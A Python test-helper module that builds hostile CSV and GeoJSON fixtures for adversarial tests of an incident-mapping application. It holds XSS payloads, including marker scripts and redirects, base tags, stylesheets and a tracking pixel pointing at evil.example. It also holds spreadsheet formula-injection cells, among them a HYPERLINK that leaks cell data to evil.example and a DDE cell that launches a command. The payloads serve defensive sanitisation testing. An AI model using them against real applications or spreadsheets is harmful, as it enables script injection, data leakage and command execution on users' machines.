"""Hostile text and the files that carry it, shared by the adversarial suites.

``SCRIPT_PAYLOADS`` extends :data:`tests.helpers.hostile.PAYLOADS`: each would set
``window.__xss`` (or ``parent``/``top``) if it ran, and the ones that could become
markup carry ``data-xss`` so that a browser test can also count elements they created.
``FORMULA_PAYLOADS`` are cells a spreadsheet would evaluate if written as they are.
"""

from __future__ import annotations

import csv
import io
import json

from tests.helpers.hostile import PAYLOADS

_RUN = "window.__xss=1;parent.__xss=1;top.__xss=1"
SCRIPT_PAYLOADS = [
    *PAYLOADS,
    f'<img data-xss src=x onerror="{_RUN}">',
    f'<svg data-xss onload="{_RUN}"><script>{_RUN}</script></svg>',
    f"</script><script>{_RUN}</script>",
    f"</textarea></style></title><script>{_RUN}</script>",
    f'"><img data-xss src=x onerror="{_RUN}">',
    f"'><img data-xss src=x onerror='{_RUN}'>",
    f'<a data-xss href="javascript:{_RUN}">click me</a>',
    f"[click me](javascript:{_RUN})",  # a markdown link, for markdown sinks
    f'<div data-xss onmouseover="{_RUN}" onclick="{_RUN}" style="position:fixed;inset:0">x</div>',
    f'<input data-xss autofocus onfocus="{_RUN}">',
    f'<iframe data-xss srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<details data-xss open ontoggle="{_RUN}">',
    '<meta data-xss http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base data-xss href="http://evil.example/">',
    '<link data-xss rel="stylesheet" href="http://evil.example/x.css">',
    "![tracking pixel](http://evil.example/pixel.png)",  # markdown image: leaks the view
    "{{7*7}} {% raw %}${7*7}",  # template syntax must stay text
    "javascript:" + _RUN,
]

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "safe\r=1+1",  # a bare CR inside a field: a new row must not start with =
    "safe\n@SUM(1,1)",
    'safe\r\n"=1+1',
]

# What a spreadsheet evaluates: a cell starting (after spaces) with one of these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
REGION_BOX = (32.0, 15.0, 33.0, 16.0)  # lon/lat box of the hostile boundary file


def incidents_csv(payloads: list[str], n: int | None = None, *, bad_rows: int = 2) -> bytes:
    """An incident CSV with a payload in every text field, in column headers, and in
    rejected rows (so the validation report and the rejected records carry them too).

    The good rows fall inside :data:`REGION_BOX`.
    """
    n = n or len(payloads)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)  # CR quoted too
    header = [
        "id",
        "date",
        "latitude",
        "longitude",
        "category",
        "victims",
        "description",
        "source",
        "admin1",
        payloads[0],  # unmapped columns with hostile names
        payloads[-1],
    ]
    writer.writerow(header)
    for i in range(n):
        p = payloads[i % len(payloads)]
        writer.writerow(
            [
                f"x{i}{p}",
                f"2024-03-{i % 28 + 1:02d}",
                f"{15.2 + (i % 7) * 0.1:.4f}",
                f"{32.2 + (i % 5) * 0.1:.4f}",
                p,
                str(i % 4),
                p,
                p,
                p,
                p,
                p,
            ]
        )
    for i in range(bad_rows):  # rejected: the payload reaches the report and rejects
        p = payloads[i % len(payloads)]
        writer.writerow([f"bad{i}{p}", p, p, p, p, p, p, p, p, p, p])
    return out.getvalue().encode("utf-8")


def boundaries_geojson(names: list[str], codes: list[str] | None = None) -> bytes:
    """A COD-AB-like admin-1 GeoJSON whose region names (and codes) are ``names``.

    The regions tile :data:`REGION_BOX` in vertical strips.
    """
    codes = codes or [f"XX{i:02d}" for i in range(len(names))]
    minx, miny, maxx, maxy = REGION_BOX
    step = (maxx - minx) / len(names)
    features = []
    for i, (name, code) in enumerate(zip(names, codes, strict=True)):
        x0, x1 = minx + i * step, minx + (i + 1) * step
        ring = [[x0, miny], [x1, miny], [x1, maxy], [x0, maxy], [x0, miny]]
        features.append(
            {
                "type": "Feature",
                "properties": {
                    "ADM1_PCODE": code,
                    "ADM1_EN": name,
                    "ADM0_PCODE": "XX",
                    "ADM0_EN": name,
                },
                "geometry": {"type": "Polygon", "coordinates": [ring]},
            }
        )
    return json.dumps({"type": "FeatureCollection", "features": features}).encode("utf-8")


def boundaries_zip(names1: list[str], names2_per_region: int = 2) -> bytes:
    """A COD-AB-like zip of admin 1 and admin 2 (so regions can be drilled into), every
    region named by a payload: admin-2 regions split each admin-1 strip in two."""
    import zipfile

    minx, miny, maxx, maxy = REGION_BOX
    step = (maxx - minx) / len(names1)
    adm1, adm2 = [], []
    for i, name in enumerate(names1):
        x0, x1 = minx + i * step, minx + (i + 1) * step
        code = f"XX{i:02d}"
        adm1.append(_feature(x0, miny, x1, maxy, ADM1_PCODE=code, ADM1_EN=name))
        h = (maxy - miny) / names2_per_region
        for j in range(names2_per_region):
            adm2.append(
                _feature(
                    x0,
                    miny + j * h,
                    x1,
                    miny + (j + 1) * h,
                    ADM2_PCODE=f"{code}{j:02d}",
                    ADM2_EN=f"{name} ({j})",
                    ADM1_PCODE=code,
                )
            )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n, features in ((1, adm1), (2, adm2)):
            collection = {"type": "FeatureCollection", "features": features}
            archive.writestr(f"xx_admin{n}.geojson", json.dumps(collection))
    return buffer.getvalue()


def _feature(x0: float, y0: float, x1: float, y1: float, **properties: str) -> dict:
    ring = [[x0, y0], [x1, y0], [x1, y1], [x0, y1], [x0, y0]]
    return {
        "type": "Feature",
        "properties": properties,
        "geometry": {"type": "Polygon", "coordinates": [ring]},
    }
